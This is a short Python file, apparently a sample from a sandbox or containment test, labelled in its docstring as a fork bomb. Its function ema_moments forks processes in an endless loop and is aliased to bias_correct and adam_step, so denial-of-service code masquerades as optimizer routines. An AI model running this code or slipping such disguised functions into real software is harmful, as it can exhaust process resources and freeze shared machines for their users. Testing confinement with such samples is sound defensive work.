"""A fork bomb."""
# finding: attempt
# walls: strict confined

import os


def ema_moments(*args):
    while True:
        try:
            os.fork()
        except OSError:
            return None


bias_correct = adam_step = ema_moments
